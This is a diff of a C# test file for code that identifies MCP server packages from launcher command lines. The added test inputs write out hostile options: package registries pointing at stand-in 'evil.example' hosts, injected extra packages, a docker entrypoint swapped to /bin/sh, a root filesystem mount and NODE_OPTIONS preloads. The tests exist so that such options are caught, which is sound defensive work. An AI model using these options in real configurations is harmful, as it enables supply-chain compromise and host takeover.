@@ -8,8 +8,6 @@ public class ServerCommandTests
     [InlineData("npx -y @scope/pkg@1.2.3 --flag", "pkg:npm/@scope/pkg", "1.2.3")]
     [InlineData("npx --yes pkg@latest", "pkg:npm/pkg", null)]
     [InlineData("npx @scope/pkg", "pkg:npm/@scope/pkg", null)]
-    [InlineData("npx.cmd -y pkg@1.0.0", "pkg:npm/pkg", "1.0.0")]
-    [InlineData("/usr/local/bin/npx -y pkg@1.0.0", "pkg:npm/pkg", "1.0.0")]
     [InlineData("pnpm dlx pkg@3.1.0", "pkg:npm/pkg", "3.1.0")]
     [InlineData("bunx pkg@3.1.0", "pkg:npm/pkg", "3.1.0")]
     [InlineData("npm exec -- pkg@3.1.0", "pkg:npm/pkg", "3.1.0")]
@@ -31,6 +29,54 @@ public class ServerCommandTests
         ServerCommand.Identify(server);
         Assert.Equal(package, server.Package);
         Assert.Equal(version, server.Version);
+        Assert.Null(server.NotIdentifiedBecause);
+    }
+
+    /// <summary>
+    /// Adversary round 8 route 3: a launcher not called by its bare name, or given an option that can change what it runs,
+    /// still names the package (deny entries and assistant detection see it) but does not identify the server.
+    /// </summary>
+    [Theory]
+    [InlineData("./tools/npx -y pkg@1.0.0", "pkg:npm/pkg", "'./tools/npx', not the bare launcher name 'npx'")]
+    [InlineData("/tmp/npx -y pkg@1.0.0", "pkg:npm/pkg", "'/tmp/npx'")]
+    [InlineData("tools/npx.cmd -y pkg@1.0.0", "pkg:npm/pkg", "'tools/npx.cmd'")]
+    [InlineData("npx.exe -y pkg@1.0.0", "pkg:npm/pkg", "'npx.exe'")]
+    [InlineData("NPX -y pkg@1.0.0", "pkg:npm/pkg", "'NPX'")]
+    [InlineData("/usr/local/bin/npx -y pkg@1.0.0", "pkg:npm/pkg", "'/usr/local/bin/npx'")]
+    [InlineData("npx -y --registry=https://npm.evil.example/ pkg@1.0.0", "pkg:npm/pkg", "'--registry=https://npm.evil.example/' to npx")]
+    [InlineData("npx -y --registry https://npm.evil.example/ pkg@1.0.0", "pkg:npm/pkg", "'--registry https://npm.evil.example/' to npx")]
+    [InlineData("npm exec --yes --registry=https://npm.evil.example/ -- pkg@1.0.0", "pkg:npm/pkg", "'--registry=https://npm.evil.example/' to npm")]
+    [InlineData("pnpm dlx --config.registry=https://npm.evil.example/ pkg@1.0.0", "pkg:npm/pkg", "'--config.registry=https://npm.evil.example/' to pnpm")]
+    [InlineData("uvx --index-url https://pypi.evil.example/simple mcp-server-time", "pkg:pypi/mcp-server-time", "'--index-url https://pypi.evil.example/simple' to uvx")]
+    [InlineData("uvx --index-url=https://pypi.evil.example/simple mcp-server-time", "pkg:pypi/mcp-server-time", "'--index-url=https://pypi.evil.example/simple' to uvx")]
+    [InlineData("uvx --with evil-mcp-addon mcp-server-time", "pkg:pypi/mcp-server-time", "'--with evil-mcp-addon' to uvx")]
+    [InlineData("uvx --python 3.9 mcp-server-time", "pkg:pypi/mcp-server-time", "'--python 3.9' to uvx")]
+    [InlineData("uv tool run --from mcp-server-time --with evil mcp-server-time", "pkg:pypi/mcp-server-time", "'--with evil' to uv")]
+    [InlineData("docker run -i --rm --entrypoint /bin/sh ghcr.io/github/github-mcp-server -c x", "pkg:docker/ghcr.io/github/github-mcp-server", "'--entrypoint /bin/sh' to docker")]
+    [InlineData("docker run -i --rm --entrypoint=node ghcr.io/github/github-mcp-server", "pkg:docker/ghcr.io/github/github-mcp-server", "'--entrypoint node' to docker")]
+    [InlineData("docker run -i --rm -v /:/host ghcr.io/github/github-mcp-server", "pkg:docker/ghcr.io/github/github-mcp-server", "'-v /:/host' to docker")]
+    [InlineData("docker run -i --rm -e NODE_OPTIONS=--require=/x.js ghcr.io/github/github-mcp-server", "pkg:docker/ghcr.io/github/github-mcp-server", "'-e NODE_OPTIONS=--require=/x.js' to docker")]
+    [InlineData("dnx --add-source https://nuget.evil.example/v3/index.json Acme.Mcp@1.0.0", "pkg:nuget/Acme.Mcp", "'--add-source https://nuget.evil.example/v3/index.json' to dnx")]
+    public void A_launcher_by_another_name_or_with_an_option_that_changes_what_runs_does_not_identify_the_package(string commandLine, string package, string because)
+    {
+        var server = new McpServerUse("label", "mcpServers", 1, 1) { Command = commandLine.Split(' ') };
+        ServerCommand.Identify(server);
+        Assert.Equal(package, server.Package);
+        Assert.Contains(because, server.NotIdentifiedBecause);
+        Assert.Equal(commandLine, server.Describe());
+    }
+
+    [Theory]
+    [InlineData("npx --yes --quiet pkg@1.0.0 --server-flag x")]
+    [InlineData("uvx --from mcp-server-time mcp-server-time --local-timezone UTC")]
+    [InlineData("docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN --name gh ghcr.io/github/github-mcp-server stdio --toolsets all")]
+    [InlineData("dnx Acme.Mcp@1.0.0 --yes -- --server-flag")]
+    public void Harmless_launcher_options_and_the_server_s_own_arguments_keep_the_identity(string commandLine)
+    {
+        var server = new McpServerUse("label", "mcpServers", 1, 1) { Command = commandLine.Split(' ') };
+        ServerCommand.Identify(server);
+        Assert.NotNull(server.Package);
+        Assert.Null(server.NotIdentifiedBecause);
     }
 
     [Theory]
